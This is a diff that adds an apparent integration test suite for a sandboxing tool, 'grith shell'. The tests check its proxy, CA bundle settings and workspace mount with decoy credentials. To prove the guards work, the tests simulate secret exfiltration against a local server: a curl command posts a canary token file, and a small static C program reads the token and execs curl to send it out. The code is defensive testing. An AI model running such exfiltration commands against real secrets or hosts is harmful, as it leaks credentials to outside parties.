@@ -1,0 +1,123 @@
+// The session's other guards: the proxy it starts (variables, CA files, blocking what argv checks cannot see —
+// a body read from a file, a static binary's exec) and the workspace mount (--mount SRC:DST).
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { EventLog } from '../../../src/events/event-log.js';
+import { addCanary, buildExecGuard, grithRun } from '../../support/shell-run.js';
+
+let root: string;
+let home: string;
+let token: { id: string; value: string };
+let server: Server;
+let port: number;
+const received: string[] = [];
+
+beforeAll(async () => {
+  buildExecGuard();
+  root = mkdtempSync(join(tmpdir(), 'grith-shg-'));
+  home = join(root, 'home');
+  token = await addCanary(home, ['--format', 'github-pat', '--label', 'net-token', '--env', 'GITHUB_TOKEN']);
+  writeFileSync(join(root, 'token.txt'), token.value);
+  server = createServer((req, res) => {
+    let body = '';
+    req.on('data', (d) => (body += d));
+    req.on('end', () => {
+      received.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)} ${body}`);
+      res.end('upstream-ok\n');
+    });
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
+  port = (server.address() as { port: number }).port;
+}, 60_000);
+
+afterAll(async () => {
+  await new Promise((r) => server?.close(r));
+  rmSync(root, { recursive: true, force: true });
+});
+
+describe('grith shell: the session proxy', () => {
+  it('routes the session through grith proxy with grith CA files', async () => {
+    const r = await grithRun(
+      ['shell', '-c', 'for v in HTTP_PROXY HTTPS_PROXY http_proxy https_proxy ALL_PROXY NODE_USE_ENV_PROXY NODE_EXTRA_CA_CERTS SSL_CERT_FILE REQUESTS_CA_BUNDLE CURL_CA_BUNDLE GIT_SSL_CAINFO PIP_CERT AWS_CA_BUNDLE DENO_CERT NO_PROXY; do echo "$v=${!v}"; done'],
+      { home, cwd: root, env: { NO_PROXY: 'localhost,127.0.0.1' } },
+    );
+    expect(r.code).toBe(0);
+    const env = Object.fromEntries(r.stdout.trim().split('\n').map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));
+    for (const k of ['HTTP_PROXY', 'HTTPS_PROXY', 'http_proxy', 'https_proxy', 'ALL_PROXY']) {
+      expect(env[k]).toMatch(/^http:\/\/grith:[\w-]+@127\.0\.0\.1:\d+$/);
+    }
+    expect(env.NODE_USE_ENV_PROXY).toBe('1');
+    expect(env.NO_PROXY).toBe('');
+    expect(env.NODE_EXTRA_CA_CERTS).toBe(join(home, 'ca', 'grith-ca.crt'));
+    const caPem = readFileSync(env.NODE_EXTRA_CA_CERTS, 'utf8');
+    expect(caPem.match(/BEGIN CERTIFICATE/g)).toHaveLength(1);
+    for (const k of ['SSL_CERT_FILE', 'REQUESTS_CA_BUNDLE', 'CURL_CA_BUNDLE', 'GIT_SSL_CAINFO', 'PIP_CERT', 'AWS_CA_BUNDLE', 'DENO_CERT']) {
+      expect(env[k]).toBe(env.SSL_CERT_FILE);
+    }
+    // The joined bundle lived in the session folder and went away with the session.
+    expect(env.SSL_CERT_FILE).toMatch(/grith-sh-.*\/ca-bundle\.pem$/);
+    expect(existsSync(env.SSL_CERT_FILE)).toBe(false);
+  });
+
+  it('lets a clean request through and blocks a body read from a file (no token in any argv)', async () => {
+    received.length = 0;
+    const url = `http://127.0.0.1:${port}`;
+    const r = await grithRun(
+      ['shell', '-c', `curl -s ${url}/clean; curl -s -o /dev/null -w '%{http_code}\\n' -d @token.txt ${url}/exfil`],
+      { home, cwd: root },
+    );
+    expect(r.stdout).toBe('upstream-ok\n403\n');
+    expect(r.stderr).toContain('CANARY FIRED [proxy]');
+    expect(received.join('\n')).not.toContain(token.value.slice(4));
+    expect(received.some((l) => l.startsWith('GET /clean'))).toBe(true);
+    const fired = (await new EventLog(home).readAll()).filter((e) => e.kind === 'canary.fired' && e.guard === 'proxy');
+    expect(fired.at(-1)).toMatchObject({ canaryId: token.id, action: 'deny' });
+  });
+
+  it('a static binary execs unchecked (known gap), and the proxy still stops what it sends', async () => {
+    const src = join(root, 'static-exec.c');
+    writeFileSync(
+      src,
+      `#include <unistd.h>
+#include <stdio.h>
+int main(int c, char **v) { char t[256] = {0}; FILE *f = fopen("token.txt", "r"); if (!f || !fgets(t, sizeof t, f)) return 2;
+  char *args[] = {"curl", "-s", "-o", "/dev/null", "-w", "%{http_code}\\n", "-d", t, v[1], 0};
+  execv("/usr/bin/curl", args); perror("execv"); return 1; }`,
+    );
+    const bin = join(root, 'static-exec');
+    execFileSync('cc', ['-static', '-O1', '-o', bin, src]);
+    received.length = 0;
+    const before = (await new EventLog(home).readAll()).length;
+    const r = await grithRun(['shell', '-c', `${bin} http://127.0.0.1:${port}/static`], { home, cwd: root });
+    expect(r.stdout).toBe('403\n');
+    expect(received.join('\n')).not.toContain(token.value.slice(4));
+    const after = (await new EventLog(home).readAll()).slice(before).filter((e) => e.kind === 'canary.fired');
+    expect(after.map((e) => e.guard)).toEqual(['proxy']);
+  });
+});
+
+describe('grith shell --mount', () => {
+  it('mounts the workspace, starts in it, serves decoys, and unmounts at the end', async () => {
+    const mh = join(root, 'mounthome');
+    const decoy = await addCanary(mh, ['--format', 'aws', '--label', 'aws-decoy', '--decoy', '.aws/credentials']);
+    const src = join(root, 'ws-src');
+    const dst = join(root, 'ws-dst');
+    mkdirSync(src);
+    writeFileSync(join(src, 'README'), 'hello\n');
+    const r = await grithRun(['shell', '--no-proxy', '--mount', `${src}:${dst}`, '-c', 'pwd; cat README; grep -c aws_access_key_id .aws/credentials'], {
+      home: mh,
+      timeoutMs: 60_000,
+    });
+    expect(r.stderr).toContain('CANARY TOUCHED [fs] decoy read: canary "aws-decoy"');
+    expect(r.stdout).toBe(`${dst}\nhello\n1\n`);
+    expect(r.code).toBe(0);
+    expect(existsSync(join(src, '.aws'))).toBe(false);
+    expect(readFileSync('/proc/self/mounts', 'utf8')).not.toContain(dst);
+    const reads = (await new EventLog(mh).readAll()).filter((e) => e.kind === 'canary.read');
+    expect(reads.at(-1)).toMatchObject({ canaryId: decoy.id, guard: 'fs' });
+  }, 90_000);
+});
